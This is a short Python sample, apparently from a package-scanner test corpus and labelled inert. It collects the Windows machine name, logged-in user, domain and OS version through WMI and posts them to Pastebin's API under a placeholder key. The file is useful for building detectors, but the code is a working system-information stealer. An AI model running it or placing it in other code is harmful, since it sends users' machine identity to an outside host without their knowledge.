# pkgguard corpus 267 (system-information), modelled on [stealer-profile]; inert, never run.
import requests
import wmi

c = wmi.WMI()
system = c.Win32_ComputerSystem()[0]
osinfo = c.Win32_OperatingSystem()[0]
report = f"{system.Name} {system.UserName} {system.Domain} {osinfo.Caption} {osinfo.Version}"
requests.post(
    "https://pastebin.com/api/api_post.php",
    data={"api_dev_key": "placeholder", "api_option": "paste", "api_paste_code": report},
)
